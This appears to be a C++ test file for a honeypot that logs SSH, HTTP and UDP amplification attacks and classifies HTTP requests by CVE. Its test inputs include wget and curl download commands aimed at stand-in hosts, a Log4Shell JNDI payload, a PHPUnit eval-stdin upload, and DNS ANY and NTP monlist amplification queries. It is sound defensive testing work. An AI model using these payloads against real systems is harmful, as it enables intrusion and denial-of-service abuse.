  EXPECT_EQ(ssh::parse_client_hello(hello.substr(0, 20), h), ssh::HelloParse::kIdentOnly);
  ASSERT_EQ(ssh::parse_client_hello(hello, h), ssh::HelloParse::kComplete);
  EXPECT_EQ(h.ident, "SSH-2.0-Go");
  EXPECT_EQ(h.kex_algorithms(), "curve25519-sha256,ecdh-sha2-nistp256");
  EXPECT_EQ(h.hassh_algorithms,
            "curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr;hmac-sha2-256;none");
  EXPECT_EQ(h.hassh, "88189635a3ee7c7f0c02224b7a2e1292");  // hashlib.md5 of the line above
  // Garbage, an SSH-1 client, a packet that is not KEXINIT, an oversized length.
  EXPECT_EQ(ssh::parse_client_hello(std::string(2000, 'x'), h), ssh::HelloParse::kInvalid);
  EXPECT_EQ(ssh::parse_client_hello("SSH-1.5-old\r\n", h), ssh::HelloParse::kInvalid);
  std::string not_kex = hello;
  not_kex[12 + 5] = 21;
  EXPECT_EQ(ssh::parse_client_hello(not_kex, h), ssh::HelloParse::kInvalid);
  EXPECT_EQ(ssh::parse_client_hello("SSH-2.0-x\r\n\x7f\xff\xff\xff\x04", h),
            ssh::HelloParse::kInvalid);
}

// A libssh client session to the honeypot's SSH service (host key not checked).
struct SshClient {
  explicit SshClient(uint16_t port) : s(ssh_new()) {
    int p = port;
    long timeout = 5;
    bool no = false;
    ssh_options_set(s, SSH_OPTIONS_HOST, "127.0.0.1");
    ssh_options_set(s, SSH_OPTIONS_PORT, &p);
    ssh_options_set(s, SSH_OPTIONS_TIMEOUT, &timeout);
    ssh_options_set(s, SSH_OPTIONS_PROCESS_CONFIG, &no);
    connected = ssh_connect(s) == SSH_OK;
  }
  ~SshClient() {
    ssh_disconnect(s);
    ssh_free(s);
  }
  int password(const char* user, const char* pw) { return ssh_userauth_password(s, user, pw); }
  ssh_session s;
  bool connected = false;
};

TEST_F(HoneypotFixture, SshLogsEveryPasswordWithClientVersionAndHassh) {
  settings_.max_attempts = 3;
  start({"ssh"});
  run();
  {
    SshClient c(ports_["ssh"]);
    ASSERT_TRUE(c.connected) << ssh_get_error(c.s);
    EXPECT_EQ(c.password("root", "123456"), SSH_AUTH_DENIED);
    EXPECT_EQ(c.password("root", "p\xc3\xa4ss w\xff"), SSH_AUTH_DENIED);
    EXPECT_EQ(c.password("admin", "admin"), SSH_AUTH_DENIED);
    EXPECT_EQ(c.password("admin", "never"), SSH_AUTH_ERROR);  // disconnected after 3
  }
  {
    SshClient c(ports_["ssh"]);
    ASSERT_TRUE(c.connected);
    EXPECT_EQ(c.password("oracle", ""), SSH_AUTH_DENIED);
  }
  auto evs = of_service(events(), "ssh");
  ASSERT_EQ(evs.size(), 4u);
  EXPECT_EQ(field(evs[0], "username"), "root");
  EXPECT_EQ(field(evs[0], "password"), "123456");
  EXPECT_EQ(field(evs[1], "password"), "p\xc3\xa4ss w\\xff");
  EXPECT_EQ(field(evs[2], "username"), "admin");
  EXPECT_EQ(field(evs[3], "username"), "oracle");
  EXPECT_EQ(field(evs[3], "password"), "");
  for (const auto& e : evs) {
    EXPECT_EQ(field(e, "client_version").substr(0, 15), "SSH-2.0-libssh_");
    EXPECT_EQ(field(e, "version").size(), 32u);  // HASSH
    EXPECT_EQ(field(e, "version"), field(evs[0], "version"));
    EXPECT_EQ(field(e, "tag"), "ssh-brute-force");
  }
  EXPECT_NE(field(evs[0], "event_id").substr(0, 16), field(evs[3], "event_id").substr(0, 16));
  auto st = (*hp_)->host().status();
  EXPECT_EQ(st["services"]["ssh"]["password_attempts"], 4);
  EXPECT_EQ(st["services"]["ssh"]["closed"]["max_attempts"], 1);
  ASSERT_EQ(st["services"]["ssh"]["hassh"].size(), 1u);
  EXPECT_EQ(st["services"]["ssh"]["hassh"][0]["hassh"], field(evs[0], "version"));
  EXPECT_EQ(st["services"]["ssh"]["hassh"][0]["connections"], 2);
  bool listed = false;
  for (const auto& l : st["listeners"])
    listed |= l["service"] == "ssh" && l["listen"] == "127.0.0.1:" + std::to_string(ports_["ssh"]);
  EXPECT_TRUE(listed);
  // The generated host keys are in the state directory, private.
  for (const char* k : {"ssh_host_ed25519_key", "ssh_host_ecdsa_key", "ssh_host_rsa_key"}) {
    fs::path p = dir_ / "state" / "ssh" / k;
    ASSERT_TRUE(fs::exists(p)) << p;
    EXPECT_EQ(fs::status(p).permissions() & fs::perms::all,
              fs::perms::owner_read | fs::perms::owner_write);
  }
}

std::string read_channel(ssh_channel ch, std::string_view until = {}) {
  std::string out;
  char buf[4096];
  for (;;) {
    int n = ssh_channel_read_timeout(ch, buf, sizeof buf, 0, 5000);
    if (n <= 0) break;
    out.append(buf, static_cast<size_t>(n));
    if (!until.empty() && out.find(until) != std::string::npos) break;
  }
  return out;
}

TEST_F(HoneypotFixture, SshMediumModeExecAndShellLogUrlsAndFetchNothing) {
  settings_.mode = "medium";
  start({"ssh"});
  run();
  {
    SshClient c(ports_["ssh"]);
    ASSERT_TRUE(c.connected);
    EXPECT_EQ(c.password("root", "root"), SSH_AUTH_SUCCESS);
    ssh_channel ch = ssh_channel_new(c.s);
    ASSERT_EQ(ssh_channel_open_session(ch), SSH_OK);
    ASSERT_EQ(ssh_channel_request_exec(ch, "wget http://198.51.100.7/a.sh; uname -m"), SSH_OK);
    std::string out = read_channel(ch);
    EXPECT_NE(out.find("x86_64"), std::string::npos) << out;
    ssh_channel_free(ch);
  }
  {
    SshClient c(ports_["ssh"]);
    ASSERT_TRUE(c.connected);
    EXPECT_EQ(c.password("admin", "1234"), SSH_AUTH_SUCCESS);
    ssh_channel ch = ssh_channel_new(c.s);
    ASSERT_EQ(ssh_channel_open_session(ch), SSH_OK);
    ASSERT_EQ(ssh_channel_request_pty(ch), SSH_OK);
    ASSERT_EQ(ssh_channel_request_shell(ch), SSH_OK);
    EXPECT_NE(read_channel(ch, "$ ").find("admin@server:~$ "), std::string::npos);
    std::string cmd = "curl -o /tmp/b https://evil.example/b; whoami\n";
    ssh_channel_write(ch, cmd.data(), static_cast<uint32_t>(cmd.size()));
    std::string out = read_channel(ch, "admin\r\n");
    EXPECT_NE(out.find("Could not resolve host: evil.example"), std::string::npos) << out;
    ssh_channel_write(ch, "exit\n", 5);
    read_channel(ch);
    ssh_channel_free(ch);
  }
  auto evs = of_service(events(), "ssh");
  ASSERT_EQ(evs.size(), 4u);
  EXPECT_EQ(field(evs[0], "tag"), "ssh-login");
  EXPECT_EQ(field(evs[1], "tag"), "ssh-payload");
  EXPECT_EQ(field(evs[1], "payload_url"), "http://198.51.100.7/a.sh");
  EXPECT_EQ(field(evs[2], "tag"), "ssh-login");
  EXPECT_EQ(field(evs[2], "username"), "admin");
  EXPECT_EQ(field(evs[3], "payload_url"), "https://evil.example/b");
  EXPECT_EQ((*hp_)->host().status()["services"]["ssh"]["logins"], 2);
}

TEST_F(HoneypotFixture, LoginServicesSurviveGarbageHalfOpenAndSlowloris) {
  settings_.idle_timeout = 1s;
  start({"ssh", "telnet", "ftp", "mysql", "vnc"});
  run();
  std::string garbage;
  for (int i = 0; i < 4096; ++i) garbage.push_back(static_cast<char>((i * 7919) & 0xff));
  for (const auto& name : {"ssh", "telnet", "ftp", "mysql", "vnc"}) {
    // Garbage: answered or closed, never a crash.
    int g = connect_to(name);
    (void)!::send(g, garbage.data(), garbage.size(), MSG_NOSIGNAL);
    EXPECT_TRUE(closed_by_peer(g)) << name;
    ::close(g);
    // Half-open (connected, silent) and slowloris (a byte now and then, never a whole
    // message): both closed by the idle timeout or the input bounds.
    int idle = connect_to(name);
    auto t0 = std::chrono::steady_clock::now();
    EXPECT_TRUE(closed_by_peer(idle)) << name;
    EXPECT_LT(std::chrono::steady_clock::now() - t0, 4s) << name;
    ::close(idle);
  }
  // A valid attempt after all that is still logged: the services are alive.
  SshClient c(ports_["ssh"]);
  ASSERT_TRUE(c.connected);
  EXPECT_EQ(c.password("after", "garbage"), SSH_AUTH_DENIED);
  // Garbage made rows only where any line is a login (telnet); the rest logged nothing.
  auto evs = events();
  int after = 0;
  for (const auto& e : evs) {
    if (field(e, "application") == "ssh") {
      ++after;
      EXPECT_EQ(field(e, "username"), "after");
    } else {
      EXPECT_EQ(field(e, "application"), "telnet");
    }
  }
  EXPECT_EQ(after, 1);
  auto st = (*hp_)->host().status();
  EXPECT_GE(st["services"]["ssh"]["kex_failed"].get<int>() +
                st["services"]["ssh"]["hello_unparsed"].get<int>(),
            1);
  EXPECT_GE(st["services"]["ssh"]["closed"]["idle_timeout"].get<int>(), 1);
}

// ---------------------------------------------------------------------------------------
// HTTP: exploit signatures and the web service

std::string shipped_rules_path() {
  return std::string(VANTAGE_SOURCE_DIR) + "/conf/honeypot/http_rules.json";
}

TEST(HttpRules, ShippedRulesLoadAndCatchTheirOwnRequests) {
  auto set = http::RuleSet::load(shipped_rules_path());
  ASSERT_TRUE(set.ok()) << set.error().message;
  std::set<std::string> cves;
  for (const auto& r : (*set)->rules()) {
    cves.insert(r.cve);
    EXPECT_FALSE(r.tests.empty()) << r.id;
    EXPECT_FALSE(r.references.empty()) << r.id;
  }
  EXPECT_GE(cves.size(), 30u);
  EXPECT_GE((*set)->benign().size(), 10u);
  // The loader replays every test; do it here too, independently of its bookkeeping.
  for (const auto& r : (*set)->rules()) {
    for (const auto& t : r.tests) {
      std::string wire = t.wire();
      sensors::HttpRequest req;
      std::string why;
      ASSERT_EQ(sensors::parse_http_request(wire, req, {}, &why), sensors::HttpParse::kComplete)
          << r.id << ": " << why;
      const auto* got = (*set)->classify(http::RequestView{wire, &req});
      ASSERT_NE(got, nullptr) << r.id;
      EXPECT_EQ(got->cve, r.cve) << r.id;
    }
  }
}

std::string one_rule(const std::string& rule_fields, const std::string& extra = "") {
  return R"({"format": "vantage-http-rules/1", "rules": [{"id": "r1", "cve": "CVE-2099-0001",
    "name": "test", "class": "remote code execution", "cvss": 9.8, "cvss_version": "3.1",
    "severity": "critical", "tactic": "TA0001", "technique": "T1190", "vendor": "V",
    "product": "P", )" +
         rule_fields + "}]" + extra + "}";
}

TEST(HttpRules, ErrorsNameTheFileTheRuleAndTheField) {
  const std::string good_match = R"("match": [{"field": "path", "contains": "/x"}])";
  const std::string good_tests = R"("tests": [{"target": "/x"}])";
  auto ok = http::RuleSet::parse(one_rule(good_match + "," + good_tests), "t.json");
  ASSERT_TRUE(ok.ok()) << ok.error().message;
  struct Case {
    std::string text, want;
  };
  for (const auto& c : std::vector<Case>{
           {"{", "t.json: not JSON"},
           {R"({"format": "other", "rules": []})", "field 'format'"},
           {one_rule(good_match), "rule 'r1' (#1): field 'tests'"},
           {one_rule(good_tests), "rule 'r1' (#1): field 'match'"},
           {one_rule(R"("match": [{"field": "nope", "contains": "x"}],)" + good_tests),
            "match #1: field 'field': unknown field 'nope'"},
           {one_rule(R"("match": [{"field": "path", "regex": "(unclosed"}],)" + good_tests),
            "field 'regex'"},
           {one_rule(R"("match": [{"field": "path", "regex": "/x"}],)" + good_tests),
            "needs one literal condition"},
           {one_rule(R"("match": [{"field": "header", "contains": "x"}],)" + good_tests),
            "field 'name' is required"},
           {one_rule(good_match + R"(, "tests": [{"target": "/y"}])"),
            "rule 'r1' (#1): test #1: the rule does not match its own test request"},
           {one_rule(good_match + "," + good_tests, R"(, "benign": [{"target": "/x"}])"),
            "benign #1: matched by rule 'r1'"},
           {one_rule(good_match + "," + good_tests + R"(, "colour": "red")"),
            "unknown field 'colour'"},
       }) {
    auto r = http::RuleSet::parse(c.text, "t.json");
    ASSERT_FALSE(r.ok()) << c.text;
    EXPECT_NE(r.error().message.find(c.want), std::string::npos)
        << "got: " << r.error().message << "\nwant: " << c.want;
    EXPECT_EQ(r.error().message.rfind("t.json", 0), 0u) << r.error().message;
  }
  // Field-level checks of the vulnerability's description.
  std::string bad_cve = one_rule(good_match + "," + good_tests);
  bad_cve.replace(bad_cve.find("CVE-2099-0001"), 13, "CVE-99-1");
  auto r = http::RuleSet::parse(bad_cve, "t.json");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("field 'cve'"), std::string::npos) << r.error().message;
  // A generic rule first steals a specific rule's test: the message says which.
  std::string two = R"({"format": "vantage-http-rules/1", "rules": [)";
  for (const char* id : {"generic", "specific"}) {
    two += std::string(id == std::string("generic") ? "" : ",") + R"({"id": ")" + id +
           R"(", "cve": "CVE-2099-0002", "name": "n", "class": "c", "cvss": 5, "cvss_version":
           "3.1", "severity": "medium", "tactic": "TA0001", "technique": "T1190", "vendor": "v",
           "product": "p", "match": [{"field": "path", "contains": ")" +
           (id == std::string("generic") ? "/a" : "/a/b") + R"("}], "tests": [{"target": ")" +
           (id == std::string("generic") ? "/a" : "/a/b") + R"("}]})";
  }
  two += "]}";
  r = http::RuleSet::parse(two, "t.json");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("rule 'specific' (#2): test #1: classified as rule 'generic'"),
            std::string::npos)
      << r.error().message;
}

TEST(HttpRules, FieldsOperatorsAndCase) {
  auto set = http::RuleSet::parse(R"({"format": "vantage-http-rules/1", "rules": [
    {"id": "hdr", "cve": "CVE-2099-0010", "name": "n", "class": "c", "cvss": 5,
     "cvss_version": "3.1", "severity": "medium", "tactic": "TA0001", "technique": "T1190",
     "vendor": "v", "product": "p",
     "match": [{"field": "header", "name": "x-thing", "prefix": "AB", "nocase": true},
               {"field": "header", "name": "X-Thing", "regex": "^ab[0-9]+$", "nocase": true}],
     "tests": [{"target": "/", "headers": {"X-Thing": "aB12"}}]},
    {"id": "dec", "cve": "CVE-2099-0011", "name": "n", "class": "c", "cvss": 5,
     "cvss_version": "3.1", "severity": "medium", "tactic": "TA0001", "technique": "T1190.001",
     "vendor": "v", "product": "p",
     "match": [{"field": "uri_decoded", "contains": "/../"}, {"field": "method", "equals": "GET"}],
     "tests": [{"target": "/a/%2e%2e/b"}]},
    {"id": "body", "cve": "CVE-2099-0012", "name": "n", "class": "c", "cvss": 5,
     "cvss_version": "3.1", "severity": "medium", "tactic": "TA0001", "technique": "T1190",
     "vendor": "v", "product": "p",
     "match": [{"field": "body", "contains": ["needle", "pin"]}],
     "tests": [{"method": "POST", "target": "/", "body": "hay pin hay"}]}],
    "benign": [{"target": "/", "headers": {"X-Thing": "ab12x"}}, {"method": "POST",
               "target": "/a/%2e%2e/b", "body": "x"}, {"target": "/", "body": "NEEDLE"}]})",
                                  "t.json");
  ASSERT_TRUE(set.ok()) << set.error().message;
  std::string out;
  http::percent_decode("%41%zz%4", out);
  EXPECT_EQ(out, "A%zz%4");
}

TEST_F(HoneypotFixture, HttpLogsEveryRequestWithItsClassification) {
  start({"http"});
  run();
  int fd = connect_to("http");
  std::string got = exchange(
      fd, "GET /?x=%24%7Bjndi:ldap://127.0.0.1/a%7D HTTP/1.1\r\nHost: h\r\nUser-Agent: t/1\r\n\r\n",
      1);
  EXPECT_TRUE(got.starts_with("HTTP/1.1 200 OK\r\n")) << got;
  // Pipelined: a benign request and an upload, answered in order on the same connection.
  std::string body = "<?php echo 1; ?>";
  std::string two =
      "GET /robots.txt HTTP/1.1\r\nHost: h\r\n\r\nPOST "
      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: h\r\n"
      "Content-Length: " +
      std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" + body;
  got = exchange(fd, two, 1 << 20);
  EXPECT_NE(got.find("HTTP/1.1 404 Not Found"), std::string::npos) << got;
  EXPECT_NE(got.find("Connection: close"), std::string::npos) << got;
  ::close(fd);
  // Not HTTP at all: logged as malformed, answered 400.
  fd = connect_to("http");
  got = exchange(fd, std::string("\x16\x03\x01\x00\x05hello\r\n\r\n", 14), 1 << 20);
  EXPECT_TRUE(got.starts_with("HTTP/1.1 400")) << got;
  ::close(fd);
  // Half a request, then the peer leaves: logged as incomplete.
  fd = connect_to("http");
  ASSERT_EQ(::send(fd, "GET /half HTTP/1.1\r\nHost:", 25, MSG_NOSIGNAL), 25);
  std::this_thread::sleep_for(100ms);
  ::close(fd);
  std::this_thread::sleep_for(200ms);
  auto evs = events();
  ASSERT_EQ(evs.size(), 5u);
  // Connections may be served by either loop thread: find each event by what it carries.
  std::map<std::string, Decoded> by_tag, by_url;
  for (const auto& e : evs) {
    EXPECT_EQ(e.type, "event4_honeypot_http_scan");
    EXPECT_EQ(e.fields.at("src_ip"), "127.0.0.1");
    EXPECT_EQ(e.fields.at("dst_port"), std::to_string(ports_["http"]));
    EXPECT_EQ(e.fields.at("url_scheme"), "http");
    EXPECT_EQ(e.fields.at("public_source"), "test-honeypot");
    EXPECT_TRUE(e.fields.count("request_raw"));
    by_tag[e.fields.count("tag") ? e.fields.at("tag") : "-"] = e;
    if (e.fields.count("http_url")) by_url[e.fields.at("http_url")] = e;
  }
  const auto& l4j = by_url["/?x=%24%7Bjndi:ldap://127.0.0.1/a%7D"].fields;
  EXPECT_EQ(l4j.at("vulnerability_id"), "CVE-2021-44228");
  EXPECT_EQ(l4j.at("vulnerability_enum"), "CVE");
  EXPECT_EQ(l4j.at("vulnerability_score"), "10");
  EXPECT_EQ(l4j.at("vulnerability_severity"), "critical");
  EXPECT_EQ(l4j.at("threat_framework"), "MITRE ATT&CK");
  EXPECT_EQ(l4j.at("threat_tactic_id"), "TA0001");
  EXPECT_EQ(l4j.at("threat_technique_id"), "T1190");
  EXPECT_EQ(l4j.at("target_vendor"), "Apache");
  EXPECT_EQ(l4j.at("pattern"), "log4shell");
  EXPECT_EQ(l4j.at("http_agent"), "t/1");
  EXPECT_EQ(l4j.at("http_request_method"), "GET");
  EXPECT_EQ(by_url["/robots.txt"].fields.count("vulnerability_id"), 0u);
  const auto& up = by_url["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"].fields;
  EXPECT_EQ(up.at("vulnerability_id"), "CVE-2017-9841");
  EXPECT_EQ(up.at("body_raw"), "PD9waHAgZWNobyAxOyA/Pg==");  // base64 of the body
  EXPECT_EQ(up.at("file_md5"), "56d26d4051c1d9a6500ef8ca4fbd8834");
  EXPECT_EQ(up.at("file_sha256").size(), 64u);
  EXPECT_TRUE(by_tag.count("http-malformed"));
  EXPECT_TRUE(by_tag.count("http-incomplete"));
  EXPECT_EQ(by_tag["http-incomplete"].fields.at("request_raw"),
            "R0VUIC9oYWxmIEhUVFAvMS4xDQpIb3N0Og==");
}

TEST_F(HoneypotFixture, HttpRulesReloadWhenTheFileChangesAndKeepTheOldOnesIfBroken) {
  fs::path rules_dir =
      fs::temp_directory_path() / ("vantage_hp_rules_" + std::to_string(::getpid()));
  fs::create_directories(rules_dir);
  auto write_rules = [&](const std::string& path_needle) {
    std::ofstream(rules_dir / "http_rules.json.tmp")
        << one_rule(R"("match": [{"field": "path", "contains": ")" + path_needle +
                    R"("}], "tests": [{"target": ")" + path_needle + R"("}])");
    fs::rename(rules_dir / "http_rules.json.tmp", rules_dir / "http_rules.json");
  };
  write_rules("/first");
  tweak_ = [&](HoneypotSettings& s) { s.rules_dir = rules_dir.string(); };
  start({"http"});
  run();
  auto request = [&](const std::string& path) {
    int fd = connect_to("http");
    exchange(fd, "GET " + path + " HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n", 1 << 20);
    ::close(fd);
  };
  request("/first");   // caught: the rules say /first
  request("/second");  // not caught
  write_rules("/second");
  std::this_thread::sleep_for(2500ms);  // LiveRules checks the file every 2 s
  request("/first");                    // the new rules: not caught any more
  request("/second");                   // caught
  std::ofstream(rules_dir / "http_rules.json") << "{broken";
  std::this_thread::sleep_for(2500ms);
  request("/x");
  request("/second");  // the broken file is not used: the rules before it stay
  auto evs = events();
  ASSERT_EQ(evs.size(), 6u);
  // Events of two loop threads may interleave: count per URL.
  std::map<std::string, int> caught, seen;
  for (const auto& e : evs) {
    ++seen[e.fields.at("http_url")];
    caught[e.fields.at("http_url")] += e.fields.count("vulnerability_id") ? 1 : 0;
  }
  EXPECT_EQ(seen["/first"], 2);
  EXPECT_EQ(caught["/first"], 1);
  EXPECT_EQ(seen["/second"], 3);
  EXPECT_EQ(caught["/second"], 2);
  EXPECT_EQ(caught["/x"], 0);
  fs::remove_all(rules_dir);
}

TEST_F(HoneypotFixture, HttpRefusesToStartWithABadRulesFile) {
  fs::path rules_dir = fs::temp_directory_path() / ("vantage_hp_bad_" + std::to_string(::getpid()));
  fs::create_directories(rules_dir);
  std::ofstream(rules_dir / "http_rules.json") << one_rule(R"("match": [])");
  HoneypotSettings settings;
  settings.rules_dir = rules_dir.string();
  auto bindings = parse_listen({"http=127.0.0.1:0"});
  ASSERT_TRUE(bindings.ok());
  sensors::SensorHostOptions ho;
  ho.sensor = "honeypot";
  ho.state_dir = (rules_dir / "state").string();
  ho.allow_root = true;
  auto hp = Honeypot::create(settings, *bindings, std::move(ho));
  ASSERT_FALSE(hp.ok());
  EXPECT_NE(hp.error().message.find("http_rules.json: rule 'r1' (#1): field 'match'"),
            std::string::npos)
      << hp.error().message;
  fs::remove_all(rules_dir);
}

// ---------------------------------------------------------------------------------------
// UDP amplification: the per-source tracker, each protocol, a service over a socket

std::string hex_bytes(std::string_view hex) {
  std::string out;
  for (size_t i = 0; i + 1 < hex.size(); i += 2) {
    while (hex[i] == ' ') ++i;
    out.push_back(static_cast<char>(std::stoi(std::string(hex.substr(i, 2)), nullptr, 16)));
  }
  return out;
}

sensors::Endpoint ep(const char* ip, uint16_t port) {
  return {*IpAddress::parse(ip), port};
}

TEST(AmpTracker, AnswersWithinTheBudgetAndReportsOneEventPerAttack) {
  AmpSettings s;
  s.replies_per_minute = 3;
  s.reply_bytes_per_minute = 1000;
  s.attack_min_requests = 5;
  s.attack_idle = 10s;
  amp::AmpTracker t(s, "dns");
  auto t0 = amp::Clock::now();
  auto victim = ep("198.51.100.7", 4444), honeypot = ep("192.0.2.1", 53);
  int answered = 0;
  for (int i = 0; i < 50; ++i) {
    // 50 requests in 2.5 s: 20 per second at most.
    answered += t.on_request(victim, honeypot, "ANY isc.org", 30, 100, t0 + i * 50ms);
  }
  EXPECT_EQ(answered, 3);  // the reply budget, not the request count
  EXPECT_FALSE(t.on_request(ep("198.51.100.8", 1), honeypot, "x", 30, 1001, t0));  // bytes
  EXPECT_TRUE(t.on_request(ep("198.51.100.9", 1), honeypot, "y", 30, 1000, t0));
  // A minute later the source is answered again (and that request belongs to the attack).
  EXPECT_TRUE(t.on_request(victim, honeypot, "ANY isc.org", 30, 100, t0 + 61s));
  EXPECT_TRUE(t.take_finished(t0 + 65s, false).empty());  // idle 4 s < 10 s
  auto done = t.take_finished(t0 + 72s, false);
  ASSERT_EQ(done.size(), 1u);  // the two scanners went quiet below the threshold
  const auto& a = done[0];
  EXPECT_EQ(a.victim.ip.to_string(), "198.51.100.7");
  EXPECT_EQ(a.victim.port, 4444);
  EXPECT_EQ(a.target.port, 53);
  EXPECT_EQ(a.request, "ANY isc.org");
  EXPECT_EQ(a.count, 51);
  EXPECT_EQ(a.bytes, 51 * 30);
  EXPECT_EQ(a.end - a.start, 61);
  EXPECT_EQ(a.max_pps, 20);
  auto st = t.stats();
  EXPECT_EQ(st.requests, 53);
  EXPECT_EQ(st.replies, 5);
  EXPECT_EQ(st.reply_bytes, 3 * 100 + 1000 + 100);
  EXPECT_EQ(st.suppressed, 48);
  EXPECT_EQ(st.attacks, 1);
  EXPECT_EQ(st.scans, 2);
  EXPECT_EQ(st.tracked, 0);
  std::string out;
  HoneypotSettings hs;
  amp::append_attack_event(out, hs, "dns", a);
  EXPECT_NE(out.find(R"("src_ip":"198.51.100.7")"), std::string::npos) << out;
  EXPECT_NE(out.find(R"("count":51)"), std::string::npos) << out;
  EXPECT_NE(out.find(R"("duration":61)"), std::string::npos) << out;
}

TEST(AmpTracker, StaysWithinItsBoundAndReportsEvictedAttacksAndAllAtShutdown) {
  AmpSettings s;
  s.attack_min_requests = 2;
  s.max_tracked_sources = 16;
  amp::AmpTracker t(s, "ntp");
  auto t0 = amp::Clock::now();
  for (uint32_t v = 0; v < 40; ++v) {
    auto src = sensors::Endpoint{IpAddress::from_v4(0xc6336400 + v), 1000};
    t.on_request(src, ep("192.0.2.1", 123), "monlist", 8, 400, t0);
    t.on_request(src, ep("192.0.2.1", 123), "monlist", 8, 400, t0 + 1ms);
  }
  EXPECT_EQ(t.stats().tracked, 16);
  EXPECT_EQ(t.stats().evicted, 24);
  EXPECT_EQ(t.take_finished(t0 + 1s, false).size(), 24u);  // the evicted ones
  EXPECT_EQ(t.take_finished(t0 + 2s, true).size(), 16u);   // shutdown: all the rest
  EXPECT_EQ(t.stats().tracked, 0);
  EXPECT_EQ(t.stats().attacks, 40);
}

TEST(AmpProtocols, DnsAnswersQueriesAndRefusesWhatIsNotOne) {
  std::string reply, summary;
  auto local = ep("127.0.0.1", 53);
  // ANY isc.org with EDNS (udp 4096, as attack tools send).
  std::string any = hex_bytes(
      "abcd 0100 0001 0000 0000 0001 03697363036f726700 00ff 0001"
      " 00 0029 1000 00000000 0000");
  ASSERT_TRUE(amp::respond_dns(any, local, reply, summary));
  EXPECT_EQ(summary, "ANY isc.org");
  EXPECT_EQ(reply.substr(0, 2), "\xab\xcd");
  EXPECT_EQ(static_cast<unsigned char>(reply[2]) & 0x80, 0x80);  // a response
  EXPECT_EQ(static_cast<unsigned char>(reply[7]), 6);            // six answers
  EXPECT_GT(reply.size(), any.size() * 5);                       // an amplifier...
  EXPECT_LE(reply.size(), 1232u);                                // ...within EDNS's size
  std::string a = hex_bytes("0001 0100 0001 0000 0000 0000 076578616d706c6503636f6d00 0001 0001");
  ASSERT_TRUE(amp::respond_dns(a, local, reply, summary));
  EXPECT_EQ(summary, "A example.com");
  EXPECT_EQ(reply.substr(reply.size() - 4), std::string("\xc0\x00\x02\x01", 4));
  EXPECT_FALSE(amp::respond_dns("short", local, reply, summary));
  std::string response = a;
  response[2] = '\x81';
  EXPECT_FALSE(amp::respond_dns(response, local, reply, summary));
  std::string pointer = hex_bytes("0001 0100 0001 0000 0000 0000 c00c 0001 0001");
  EXPECT_FALSE(amp::respond_dns(pointer, local, reply, summary));
}

TEST(AmpProtocols, NtpMonlistReadvarAndClient) {
  std::string reply, summary;
  auto local = ep("127.0.0.1", 123);
  std::string monlist = hex_bytes("17 00 03 2a") + std::string(4, '\0');
  ASSERT_TRUE(amp::respond_ntp(monlist, local, reply, summary));
  EXPECT_EQ(summary, "monlist");
  EXPECT_EQ(reply.size(), 8u + 6 * 72);
  EXPECT_EQ(static_cast<unsigned char>(reply[0]), 0x97);  // response, version 2, mode 7
  EXPECT_EQ(reply.substr(4, 4), std::string("\x00\x06\x00\x48", 4));
  std::string readvar = hex_bytes("16 02 0001 0000 0000 0000 0000");
  ASSERT_TRUE(amp::respond_ntp(readvar, local, reply, summary));
  EXPECT_EQ(summary, "mode6 readvar");
  EXPECT_NE(reply.find("version=\"ntpd"), std::string::npos);
  EXPECT_EQ(reply.size() % 4, 0u);
  std::string client(48, '\0');
  client[0] = 0x23;  // version 4, mode 3
  client.replace(40, 8, "ORIGINTS");
  ASSERT_TRUE(amp::respond_ntp(client, local, reply, summary));
  EXPECT_EQ(summary, "mode3 client");
  EXPECT_EQ(reply.size(), 48u);
  EXPECT_EQ(reply.substr(24, 8), "ORIGINTS");
  EXPECT_FALSE(amp::respond_ntp(std::string("\x97\0\x03\x2a\0\0\0\0", 8), local, reply, summary));
  EXPECT_FALSE(amp::respond_ntp("", local, reply, summary));
}

TEST(AmpProtocols, SsdpChargenMemcached) {
  std::string reply, summary;
  auto local = ep("127.0.0.1", 1900);
  ASSERT_TRUE(
      amp::respond_ssdp("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "
                        "\"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n",
                        local, reply, summary));
  EXPECT_EQ(summary, "M-SEARCH ssdp:all");
  EXPECT_TRUE(reply.starts_with("HTTP/1.1 200 OK\r\n"));
  EXPECT_NE(reply.find("LOCATION: http://127.0.0.1:49152/rootDesc.xml"), std::string::npos);
  EXPECT_FALSE(amp::respond_ssdp("NOTIFY * HTTP/1.1\r\n\r\n", local, reply, summary));
  ASSERT_TRUE(amp::respond_chargen("x", local, reply, summary));
  EXPECT_EQ(reply.size(), 6u * 74);
  std::string stats = std::string("\x12\x34\0\0\0\1\0\0stats\r\n", 15);
  ASSERT_TRUE(amp::respond_memcached(stats, local, reply, summary));
  EXPECT_EQ(summary, "stats");
  EXPECT_EQ(reply.substr(0, 8), std::string("\x12\x34\0\0\0\1\0\0", 8));
  EXPECT_TRUE(reply.ends_with("END\r\n"));
  EXPECT_FALSE(
      amp::respond_memcached(std::string("\0\0\0\0\0\1\0\0\x01\x02", 10), local, reply, summary));
}

TEST(AmpProtocols, SnmpAndCldapSpeakBer) {
  std::string reply, summary;
  auto local = ep("127.0.0.1", 161);
  // GetBulk, community "public", 1.3.6.1.2.1.1, max-repetitions 10 (built with our writer).
  std::string bind =
      amp::ber::tlv(0x30, amp::ber::tlv(0x06, amp::ber::oid_body({1, 3, 6, 1, 2, 1, 1})) +
                              amp::ber::tlv(0x05, ""));
  std::string pdu = amp::ber::tlv(0x02, amp::ber::int_body(7)) +
                    amp::ber::tlv(0x02, amp::ber::int_body(0)) +
                    amp::ber::tlv(0x02, amp::ber::int_body(10)) + amp::ber::tlv(0x30, bind);
  std::string bulk =
      amp::ber::tlv(0x30, amp::ber::tlv(0x02, amp::ber::int_body(1)) +
                              amp::ber::tlv(0x04, "public") + amp::ber::tlv(0xa5, pdu));
  ASSERT_TRUE(amp::respond_snmp(bulk, local, reply, summary));
  EXPECT_EQ(summary, "v2c getbulk public 1.3.6.1.2.1.1");
  EXPECT_GT(reply.size(), bulk.size() * 4);
  EXPECT_NE(reply.find("gw-edge-01"), std::string::npos);
